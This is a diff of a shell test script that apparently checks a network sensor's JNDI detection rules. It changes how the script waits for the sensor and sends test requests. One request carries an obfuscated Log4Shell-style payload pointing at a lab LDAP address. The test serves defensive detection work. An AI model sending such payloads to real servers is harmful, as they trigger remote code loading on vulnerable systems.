@@ -57,7 +57,6 @@ sys.exit(0 if eval(sys.argv[2]) else 1)
 PYTHON
 }
 
-capturing() { awk 'NR > 1 && $5 > 0 && $6 == 1 {found = 1} END {exit !found}' /proc/net/packet; }
 client() { nsenter --net="/proc/$client_pid/ns/net" "$@"; }
 # The kernel ends it when this script ends, however that happens.
 in_background() { setpriv --pdeathsig KILL "$@" & }
@@ -80,7 +79,7 @@ until_true 20 "the web server" client curl -s -o /dev/null http://10.99.0.2:8080
 
 in_background "$sensor" -i s0 -l "$WORK" -S "$top/rules/jndi.rules" 2>"$WORK/sensor.err" >"$WORK/sensor.out"
 pid=$!
-until_true 30 "the sensor's capture socket" capturing
+until_true 30 "the sensor's word that it watches" grep -q "watching" "$WORK/sensor.err"
 
 get -A 'Mozilla/5.0 ${not.a.lookup}'
 get -A '${${lower:j}ndi:ldap://10.99.0.1:1389/live}'
